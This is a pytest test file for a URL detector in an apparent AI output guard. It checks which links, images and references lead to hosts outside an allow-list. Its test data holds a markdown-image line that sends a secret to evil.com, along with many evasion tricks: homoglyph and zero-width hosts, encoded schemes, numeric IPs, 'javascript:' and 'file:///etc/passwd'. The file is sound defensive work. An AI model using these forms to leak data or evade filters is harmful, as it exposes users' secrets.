"""Addresses as browsers read them: whatever leads to another host is found, what stays is not."""

import pytest

from gateway.guards.detectors.urls import LONGEST, REACH, Urls

URLS = Urls(("good.com", "*.good.org", "bücher.example"))

AWAY = [
    # What is shown is fetched.
    "![x](https://evil.com/?q=secret)",
    '<img src="https://evil.com/x">',
    "<img src=//evil.com/a>",
    "<img srcset='https://good.com/a 1x, https://evil.com/b 2x'>",
    'style="background:url(//evil.com/a.png)"',
    "![x](<https://evil.com/a b>)",
    "[r]: https://evil.com/x",
    "[r]:\nhttps://evil.com/x",
    '<meta http-equiv=refresh content="0;url=https://evil.com">',
    # Bare, and without a scheme.
    "see https://evil.com.",
    "(https://evil.com)",
    "<https://evil.com>",
    "//evil.com/a",
    "![a](//evil.com/p)",
    "www.evil.com",
    "evil.com/path?x=1",
    # Hosts that look like the allowed one.
    "https://good.com@evil.com/a",
    "https://good.com:pw@evil.com/a",
    "https://good.com.evil.com",
    "https://evilgood.com",
    "https://sub.good.com",
    "https://good.org",
    "https://evilgood.org",
    "https://good.com。evil.com",
    # Written so that only a browser sees it.
    "https:\\\\evil.com\\x",
    "https:/evil.com",
    "https:evil.com/a",
    "/\\evil.com/a",
    "<a href='ht\ntps://ev\til.com'>",
    "<a href='  https://evil.com'>",
    "https://%65vil.com/",
    "HTTPS://EVIL.COM",
    "ＨＴＴＰＳ://evil.com",
    "https://ev\u200bil.com",
    "https://g\u043e\u043ed.com",
    '<img src="&#104;ttps://evil.com">',
    "![x](https&#58;//evil.com/a)",
    "![x](\\/\\/evil.com/a)",
    '{"url": "https:\\/\\/evil.com\\/x"}',
    # Numbers.
    "http://0x7f.1/",
    "http://2130706433/",
    "http://017700000001/",
    "http://[::1]/",
    # Schemes that are no web's.
    "data:text/html,hi",
    "data:image/png;base64,AAAA",
    "javascript:alert(1)",
    "ftp://good.com/x",
    "file:///etc/passwd",
    # Longer than what is read.
    f"https://good.com:{'x' * LONGEST}@evil.com/",
    f"https://{'x' * LONGEST}@evil.com/",
]
HERE = [
    "https://good.com/a?b=c#d",
    "https://GOOD.com.",
    "http://good.com:8080/x",
    "https://me:pw@good.com/",
    "https://a.good.org/ and https://a.b.good.org",
    "https://bücher.example/x",
    "https://xn--bcher-kva.example",
    "![x](/local.png) [a](#part) [b](?q=1) [c](./d)",
    '<a href="/relative/path?x=1">',
    "(see https://good.com).",
    "**https://good.com**",
    "| https://good.com |",
    '{"url": "https:\\/\\/good.com\\/x"}',
    # No addresses at all.
    "// a comment a.b",
    "data: 5, javascript is fun, http: is a scheme",
    "and/or 1/2 src/main.py node.js",
    "std::cout << x; data = load(); code = 'abc'",
    "C:\\dir\\file.txt",
    "Sentence one.Sentence two",
]


@pytest.mark.parametrize("text", AWAY)
def test_what_leads_away_is_found(text: str) -> None:
    assert [finding.kind for finding in URLS.find(text)] == ["URL"]


@pytest.mark.parametrize("text", HERE)
def test_what_stays_or_is_allowed_is_not(text: str) -> None:
    assert [text[finding.start : finding.end] for finding in URLS.find(text)] == []


@pytest.mark.parametrize("text", AWAY)
def test_no_host_is_left_once_what_is_found_is_gone(text: str) -> None:
    for finding in reversed(URLS.find(text)):
        text = text[: finding.start] + finding.instead + text[finding.end :]
    assert URLS.find(text.replace("x" * 100, "")) == []


@pytest.mark.parametrize("text", [text for text in AWAY if len(text) < REACH])
def test_whatever_may_become_an_address_is_held_back(text: str) -> None:
    text = f"Look at this. {text} So it is."
    for finding in URLS.find(text):
        for cut in range(finding.start + 1, finding.end + 1):
            assert URLS.held(text[:cut]) >= cut - finding.start


def test_prose_is_held_back_by_a_word() -> None:
    assert URLS.held("All is said and done") == len(" done")


@pytest.mark.parametrize("name", ["", "https://a.com", "a.com/x", "a b", "*", "a.*.com", "me@a.com"])
def test_what_is_no_host_cannot_be_allowed(name: str) -> None:
    with pytest.raises(ValueError, match="no host"):
        Urls((name,))


def test_nothing_allowed_is_everything_found() -> None:
    assert Urls().find("https://good.com")
